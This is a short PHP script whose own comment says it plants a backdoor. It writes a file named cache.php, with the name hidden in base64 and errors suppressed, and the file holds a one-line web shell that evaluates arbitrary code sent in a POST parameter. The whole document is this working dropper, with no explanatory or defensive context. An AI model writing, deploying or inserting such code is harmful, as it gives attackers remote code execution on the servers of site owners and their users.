<?php
// Plants a one-line backdoor next to itself.
@fputs(fopen(base64_decode('Y2FjaGUucGhw'), 'w'), '<?php @eval($_POST["k"]); ?>');
